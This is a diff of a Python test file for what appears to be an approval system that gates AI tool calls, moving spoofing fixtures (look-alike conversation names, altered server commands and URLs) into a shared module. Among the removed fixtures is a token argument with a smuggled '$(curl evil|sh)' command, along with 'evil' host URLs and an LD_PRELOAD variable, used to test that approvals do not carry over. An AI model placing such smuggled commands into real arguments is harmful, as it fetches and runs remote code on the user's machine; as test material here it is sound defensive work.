@@ -15,45 +15,18 @@ from typing import Any
 import pytest
 from msgspec.structs import replace
 
-from rightcall.base.secrets import Redactor
-from rightcall.executor.door import Door, Way, origin_of, way_of, way_told
+from rightcall.executor.door import Door, way_of, way_told
 from rightcall.executor.question import question_lines
 from rightcall.hosts.hooks.wires import builtin_tools
 from rightcall.policy.settings import Asking, Settings
-from rightcall.policy.types import Origin, binding
+from rightcall.policy.types import binding
 from rightcall.record import memory, sqlite_file
 from rightcall.record.sqlite import SqliteStore
 from rightcall.record.tables import ManualClock, read_note
+from support.approval_attacks import FILES, HERE, OTHER_CONTEXTS, OTHER_SERVERS, WIKI, origin
 from support.approvals import SETTINGS, START, Desk, request_of, say
 
 pytestmark = pytest.mark.promise("P-06")
-
-HERE = "chat-1"
-REDACTOR = Redactor(b"key of the store")
-
-OTHER_CONTEXTS: dict[str, dict[str, Any]] = {
-    "another conversation": {"context": "chat-2"},
-    "no conversation at all": {"context": None},
-    "an empty name": {"context": ""},
-    "in capitals": {"context": "CHAT-1"},
-    "a blank at the end": {"context": "chat-1 "},
-    "a blank before": {"context": " chat-1"},
-    "a longer name that begins the same": {"context": "chat-12"},
-    "a shorter one": {"context": "chat-"},
-    "in full width": {"context": "\uff43hat-1"},
-    "a foreign letter": {"context": "ch\u0430t-1"},
-    "the other normal form": {"context": "chat-1\u0301"},
-    "a zero-width character": {"context": "chat-1\u200b"},
-    "a NUL": {"context": "chat-1\0"},
-    "a piece of JSON": {"context": 'chat-1","'},
-    "the word null": {"context": "null"},
-    "conversation and caller exchanged": {"context": "teacher", "caller": "chat-1"},
-    "the conversation moved into the caller": {"context": None, "caller": "teacherchat-1"},
-    "the conversation moved into the state": {"context": None, "state": "schat-1"},
-    "the right conversation of another caller": {"context": HERE, "caller": "intern"},
-    "the right conversation with another state": {"context": HERE, "state": "changed"},
-    "the right conversation with another call": {"context": HERE, "arguments": {"path": "docs/b.md"}},
-}
 
 
 @pytest.mark.parametrize("named", [False, True], ids=["", "and names the approval"])
@@ -88,41 +61,6 @@ def test_the_same_call_in_two_conversations_is_two_questions_and_each_names_its_
 
 
 # ── servers ──────────────────────────────────────────────────────────────────────────────────────────────────────────
-
-FILES = way_of(["npx", "-y", "server-files", "/data"], cwd="/srv", env={"TOKEN": "a", "LANG": "b"})
-WIKI = way_of(url="https://wiki.example/mcp?key=hunter2", headers={"Authorization": "Bearer x"})
-
-OTHER_SERVERS: dict[str, tuple[Way, Way]] = {
-    "another program": (FILES, replace(FILES, command=("./npx", *FILES.command[1:]))),
-    "another package": (FILES, replace(FILES, command=("npx", "-y", "server-fi1es", "/data"))),
-    "a look-alike letter": (FILES, replace(FILES, command=("npx", "-y", "server-fil\u0435s", "/data"))),
-    "an argument more": (FILES, replace(FILES, command=(*FILES.command, "--allow-all"))),
-    "an argument less": (FILES, replace(FILES, command=FILES.command[:-1])),
-    "arguments in another order": (FILES, replace(FILES, command=("npx", "server-files", "-y", "/data"))),
-    "two arguments in one": (FILES, replace(FILES, command=("npx", "-y", "server-files /data"))),
-    "an empty argument": (FILES, replace(FILES, command=(*FILES.command, ""))),
-    "another folder to run in": (FILES, replace(FILES, cwd="/tmp")),
-    "no folder to run in": (FILES, replace(FILES, cwd="")),
-    "a variable more": (FILES, replace(FILES, env=("LANG", "LD_PRELOAD", "TOKEN"))),
-    "a variable less": (FILES, replace(FILES, env=("TOKEN",))),
-    "a secret in the command": (
-        way_of(["s", "--token", "one"]), way_of(["s", "--token", "$(curl evil|sh)"]),
-    ),
-    "a URL for a command": (FILES, WIKI),
-    "another host": (WIKI, replace(WIKI, url="https://wiki.example.evil/mcp?key=hunter2")),
-    "another port": (WIKI, replace(WIKI, url="https://wiki.example:444/mcp?key=hunter2")),
-    "no encryption": (WIKI, replace(WIKI, url="http://wiki.example/mcp?key=hunter2")),
-    "another path": (WIKI, replace(WIKI, url="https://wiki.example/mcp2?key=hunter2")),
-    "another user": (WIKI, replace(WIKI, url="https://evil@wiki.example/mcp?key=hunter2")),
-    "a host behind an @": (WIKI, replace(WIKI, url="https://wiki.example@evil/mcp?key=hunter2")),
-    "another query": (WIKI, replace(WIKI, url="https://wiki.example/mcp?key=other")),
-    "a header more": (WIKI, replace(WIKI, headers=("authorization", "x-act-as"))),
-    "a header for a variable": (replace(FILES, env=("x",)), replace(FILES, env=(), headers=("x",))),
-}  # fmt: skip
-
-
-def origin(way: Way) -> Origin:
-    return origin_of("wrap:files", way, REDACTOR)
 
 
 @pytest.mark.promise("P-08")
@@ -278,6 +216,8 @@ def test_answers_and_time_make_room(desk: Desk) -> None:
     assert rule(desk, 13) == ("ask", "approval:write")
     desk.clock.set_wall(0)
     assert desk.store.look(lambda tables: tables.waiting("teacher", desk.now)[0]) == 1
+    desk.ask({"n": 14}, settings=FEW, caller="intern")
+    assert desk.store.look(lambda tables: tables.count_waiting(desk.now)) == 2
 
 
 def test_bytes_count_together_with_what_a_person_is_shown_beside_the_call(desk: Desk) -> None:
